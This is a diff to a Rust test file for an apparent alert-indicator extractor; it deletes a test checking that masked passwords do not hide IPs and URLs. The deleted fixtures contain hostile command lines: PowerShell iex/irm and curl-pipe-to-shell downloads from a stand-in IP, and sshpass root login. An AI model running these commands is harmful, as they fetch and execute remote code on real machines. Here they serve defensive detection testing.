@@ -53,30 +53,6 @@ fn a_piece_of_a_masked_password_is_no_indicator() {
 }
 
 #[test]
-fn what_is_masked_whole_is_an_indicator() {
-    let (url, ip) = ("http://203.0.113.77/a.ps1", "203.0.113.77");
-    for (command, expected) in [
-        (format!("powershell -c \"$pw='{url}'; iex (irm $pw)\""), &[ip, url][..]),
-        (format!("PASSWORD={url}; curl $PASSWORD|sh"), &[ip, url]),
-        (format!("export session={url} && curl $session"), &[ip, url]),
-        (format!("sshpass -p {ip} ssh root@{ip}"), &[ip]),
-        (
-            format!("curl https://svc:P@{ip};x@db.example.org/; curl {url}"),
-            &[ip, "db.example.org", url],
-        ),
-    ] {
-        let mut alert = sysmon("x");
-        alert["full_log"] = json!("x");
-        alert["data"] = json!({ "command": command });
-        assert_eq!(values(&alert), expected, "{command}");
-    }
-    let mut alert = sysmon("x");
-    alert["full_log"] = json!("x");
-    alert["data"] = json!({"url": format!("/index.php?token={url}?"), "srcip": "10.0.0.1"});
-    assert_eq!(values(&alert), [ip, url]);
-}
-
-#[test]
 fn what_stands_beside_a_secret_is_an_indicator_however_it_is_written() {
     let password = ["S3cret", "Pw1x"].concat();
     let mut alert = sysmon(&format!(
